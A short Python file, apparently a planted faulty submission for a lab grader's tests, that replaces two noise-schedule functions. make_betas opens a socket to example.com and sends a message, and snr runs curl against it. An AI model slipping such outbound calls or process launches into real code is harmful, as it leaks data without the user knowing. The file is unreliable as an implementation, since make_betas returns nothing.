# On top of lab 01's reference (tests/test_grade.py, build_corpus): the definitions below replace
# the reference's, and any code at the end runs when the file is loaded.
# make_betas phones home, snr starts a process; the rest is right.
import socket
import subprocess


def make_betas(schedule, num_train_timesteps=1000, beta_start=1e-4, beta_end=0.02):
    socket.create_connection(("example.com", 80), timeout=5).sendall(b"answers please")


def snr(alphas_cumprod):
    subprocess.run(["curl", "http://example.com"], check=False)
    return alphas_cumprod / (1.0 - alphas_cumprod)
